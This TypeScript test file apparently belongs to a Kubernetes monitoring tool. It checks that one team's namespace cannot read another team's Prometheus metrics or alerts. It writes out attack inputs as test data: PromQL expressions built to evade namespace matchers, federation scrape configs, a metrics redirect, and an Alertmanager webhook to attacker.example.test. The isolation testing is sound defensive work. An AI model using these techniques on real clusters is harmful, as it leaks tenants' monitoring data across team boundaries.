import { readFile, writeFile } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { gunzipSync } from 'node:zlib';
import { expect } from 'vitest';
import { parse } from 'yaml';
import type { Manifest } from '../../../packages/chartwright/src/toolchain/kube-api/objects.ts';
import { check } from '../../support/metrics/feed.ts';
import { namespace as observability } from '../../support/metrics/operator.ts';
import { addressOf } from '../../support/metrics/observed-platform.ts';
import { proves } from '../../support/steps.ts';
import { ordersWaiting, type Scene } from './scene.ts';

const attacker = 'team-catalog';
const victim = 'team-checkout';
const labels = { 'chartwright.dev/monitor': 'platform' };
const prometheusAddress = `platform-prometheus.${observability}:9090`;

/** Expressions of an attacker, each a try at the series of others. */
const expressions = [
  `orders_waiting{namespace="${victim}"}`,
  '{__name__="orders_waiting",namespace=~".+"}',
  `{"orders_waiting", "namespace"!="${attacker}"}`,
  `label_replace(orders_waiting{namespace="${victim}"}, "namespace", "${attacker}", "", "")`,
  'sum without (namespace) (orders_waiting)',
  `max_over_time(orders_waiting{namespace="${victim}"}[5m:5s])`,
  `orders_waiting or on (pod) orders_waiting{namespace!="${attacker}"}`,
  `max(orders_waiting{namespace="${victim}"} offset 1s) + on () group_left () vector(0)`,
];

/** What a team tries in order to read the metrics of others, and what comes of it. */
export function attack(scene: () => Scene): void {
  proves(
    'prometheus',
    ['kube-apiserver'],
    'a team’s monitor or rule that would read the metrics of others, or files and tokens of Prometheus, is rejected',
    async () => {
      const cases = (await Promise.all(['monitors', 'rules', 'receivers'].map(casesOf))).flat();
      expect(cases.length).toBeGreaterThan(60);
      for (const { name, verdict, object } of cases) {
        const sent = scene().cluster.kube.create(placed(object), { dryRun: true });
        if (verdict === 'allowed') await expect(sent, name).resolves.toBeDefined();
        else await expect(sent, name).rejects.toThrow(/chartwright-guard-(monitors|rules|receivers)/);
      }
    },
  );

  proves(
    'prometheus',
    ['prometheus-operator', 'kube-apiserver'],
    'a Probe, a ScrapeConfig or a server of the operator’s kind in a team’s namespace is ignored, even past the guard rails',
    async () => {
      const { kube } = scene().cluster;
      await guard(scene(), ['Audit']);
      const spec = { serviceMonitorNamespaceSelector: {}, serviceMonitorSelector: {} };
      for (const [version, kind, given] of [
        [
          'v1',
          'Probe',
          { prober: { url: prometheusAddress, path: '/federate' }, targets: { staticConfig: { static: ['a'] } } },
        ],
        ['v1alpha1', 'ScrapeConfig', { staticConfigs: [{ targets: [prometheusAddress] }], metricsPath: '/federate' }],
        ['v1', 'Prometheus', spec],
        ['v1', 'Alertmanager', { alertmanagerConfigNamespaceSelector: {}, alertmanagerConfigSelector: {} }],
      ] as const)
        await kube.create({
          apiVersion: `monitoring.coreos.com/${version}`,
          kind,
          metadata: { name: 'stolen', namespace: attacker, labels },
          spec: given,
        });
      await guard(scene(), ['Deny']);
      await kube.create({
        apiVersion: 'monitoring.coreos.com/v1',
        kind: 'ServiceMonitor',
        metadata: { name: 'marker', namespace: attacker, labels },
        spec: { selector: {}, endpoints: [{ port: 'http', followRedirects: false }] },
      });
      // The monitor that is made last is taken up, so the operator has seen the others too.
      const written = await untilWritten(scene(), 'prometheus-platform', 'prometheus.yaml.gz', `${attacker}/marker`);
      expect(written).not.toContain('stolen');
      for (const [apiVersion, kind, name] of [
        ['apps/v1', 'StatefulSet', 'prometheus-stolen'],
        ['apps/v1', 'StatefulSet', 'alertmanager-stolen'],
        ['v1', 'Secret', 'alertmanager-stolen-generated'],
      ] as const)
        expect(await kube.find({ apiVersion, kind, namespace: attacker, name }), name).toBeUndefined();
    },
  );

  proves(
    'prometheus',
    ['prometheus', 'prometheus-operator'],
    'whatever expression a team writes into a rule, it reads the team’s own series only',
    async () => {
      const { kube } = scene().cluster;
      await kube.create({
        apiVersion: 'monitoring.coreos.com/v1',
        kind: 'PrometheusRule',
        metadata: { name: 'stolen', namespace: attacker, labels },
        spec: {
          groups: [
            {
              name: 'stolen',
              rules: expressions.map((expr, index) => ({
                record: `stolen_${index}`,
                expr,
                labels: { namespace: victim },
              })),
            },
          ],
        },
      });
      const rules = await kube.until(
        { apiVersion: 'v1', kind: 'ConfigMap', namespace: observability, labelSelector: 'prometheus-name=platform' },
        (maps) => {
          const files = maps.flatMap((map) => Object.entries((map['data'] ?? {}) as Record<string, string>));
          const [, text] = files.find(([name]) => name.startsWith(`${attacker}-stolen-`)) ?? [];
          return text === undefined
            ? undefined
            : (parse(text) as { groups: { rules: { expr: string; labels: Record<string, string> }[] }[] }).groups[0]
                ?.rules;
        },
        { what: 'hold the rules of the attacker' },
      );
      expect(rules).toHaveLength(expressions.length);
      const values = async (expression: string): Promise<number[]> =>
        (await scene().prometheus.query(expression)).map(({ value }) => value);
      // Each of them works: without the operator's matcher it reads what it should not.
      for (const expression of expressions) expect(await values(expression), expression).toContain(ordersWaiting);
      for (const { expr, labels: set } of rules) {
        expect(set['namespace']).toBe(attacker);
        expect(
          (await values(expr)).filter((value) => value >= ordersWaiting),
          expr,
        ).toEqual([]);
      }
    },
  );

  proves(
    'prometheus',
    ['prometheus'],
    'a team’s workload that redirects Prometheus to the metrics of others gives it nothing',
    async () => {
      const [[own], [other]] = await Promise.all([
        scene().podsOf('catalog', 'productcatalogservice'),
        scene().podsOf('checkout', 'checkoutservice'),
      ]);
      if (own === undefined || other === undefined) throw new Error('no pods of both teams');
      scene().serveMetrics(
        other,
        9400,
        '/internal/metrics',
        () => `orders_waiting ${ordersWaiting}\norders_secret 1\n`,
      );
      await scene().prometheus.until(`orders_secret{namespace="${victim}"}`, (all) => all.length > 0);
      scene().network.listen(`${addressOf(own)}:9400`, {
        redirects: `http://${addressOf(other)}:9400/internal/metrics`,
      });
      await scene().prometheus.untilTargets((targets) =>
        targets.some(
          ({ scrapeUrl, lastError }) => scrapeUrl.startsWith(`http://${addressOf(own)}:`) && /30[27]/.test(lastError),
        ),
      );
      const found = await scene().prometheus.query('orders_secret');
      expect(new Set(found.map(({ metric }) => metric['namespace']))).toEqual(new Set([victim]));
      scene().serveMetrics(own, 9400, '/internal/metrics', () => 'orders_waiting 2\n');
    },
  );

  proves(
    'alertmanager',
    ['prometheus-operator', 'amtool'],
    'a team’s AlertmanagerConfig receives the alerts of its own namespace only, whatever its matchers are',
    async () => {
      const { kube, processes } = scene().cluster;
      const receiver = { name: 'stolen', webhookConfigs: [{ url: 'http://attacker.example.test/' }] };
      const matchers = [{ name: 'namespace', matchType: '=~', value: '.*' }];
      await kube.create({
        apiVersion: 'monitoring.coreos.com/v1alpha1',
        kind: 'AlertmanagerConfig',
        metadata: { name: 'stolen', namespace: attacker, labels },
        spec: {
          receivers: [receiver],
          route: { receiver: 'stolen', matchers, routes: [{ receiver: 'stolen', matchers }] },
        },
      });
      const secret = 'alertmanager-platform-generated';
      const written = await untilWritten(scene(), secret, 'alertmanager.yaml.gz', `${attacker}/stolen`);
      const file = `${processes.folderOf('attacked-alertmanager')}/alertmanager.yaml`;
      await writeFile(file, written);
      const receivers = async (namespace: string): Promise<string> => {
        const { accepted, output } = await check('amtool', [
          ...['config', 'routes', 'test', `--config.file=${file}`, 'alertname=A'],
          `namespace=${namespace}`,
        ]);
        expect(accepted, output).toBe(true);
        return output;
      };
      expect(await receivers(attacker)).toContain(`${attacker}/stolen`);
      for (const namespace of [victim, observability, ''])
        expect(await receivers(namespace), namespace).not.toContain('stolen');
    },
  );
}

interface Case {
  readonly name: string;
  readonly verdict: 'allowed' | 'refused';
  readonly object: Manifest;
  readonly namespace?: unknown;
  readonly oldObject?: unknown;
}

/** The cases of a guard rail that are about a new object of a team. */
async function casesOf(file: string): Promise<Case[]> {
  const path = fileURLToPath(
    new URL(`../../../packages/chartwright/fixtures/guard-rails/${file}.yaml`, import.meta.url),
  );
  // The cases are about a team of their own.
  const text = (await readFile(path, 'utf8')).replaceAll('team-shop', attacker);
  return (parse(text) as { cases: Case[] }).cases.filter(
    ({ namespace, oldObject }) => namespace === undefined && oldObject === undefined,
  );
}

/** An object of a case, with what its kind needs besides. */
function placed(object: Manifest): Manifest {
  const selects = object.kind === 'ServiceMonitor' || object.kind === 'PodMonitor';
  const { spec } = object as Manifest & { spec: object };
  return {
    ...object,
    metadata: { name: 'case', namespace: attacker },
    spec: { ...(selects ? { selector: {} } : {}), ...spec },
  };
}

/** Sets what the guard rail of monitors does with what it refuses, and waits until the API server does so. */
async function guard({ cluster: { kube } }: Scene, validationActions: readonly string[]): Promise<void> {
  const name = 'chartwright-guard-monitors';
  const kind = 'ValidatingAdmissionPolicyBinding';
  await kube.merge({ apiVersion: 'admissionregistration.k8s.io/v1', kind, name }, { spec: { validationActions } });
  const probe = {
    apiVersion: 'monitoring.coreos.com/v1',
    kind: 'Probe',
    metadata: { name: 'a', namespace: attacker },
    spec: {},
  };
  for (let tries = 0; tries < 200; tries += 1) {
    const isDenied = await kube.create(probe, { dryRun: true }).then(
      () => false,
      (error: unknown) => String(error).includes(name),
    );
    if (isDenied === validationActions.includes('Deny')) return;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error(`the API server goes on as before ${name} was set to ${validationActions.join()}`);
}

/** What the operator has written for a server, once it contains a text. */
function untilWritten({ cluster: { kube } }: Scene, secret: string, key: string, holds: string): Promise<string> {
  return kube.untilObject(
    { apiVersion: 'v1', kind: 'Secret', namespace: observability, name: secret },
    (object) => {
      const data = (object['data'] as Record<string, string> | undefined)?.[key] ?? '';
      const text = data === '' ? '' : gunzipSync(Buffer.from(data, 'base64')).toString('utf8');
      return text.includes(holds) ? text : undefined;
    },
    { what: `hold ${holds}`, patience: 60_000 },
  );
}
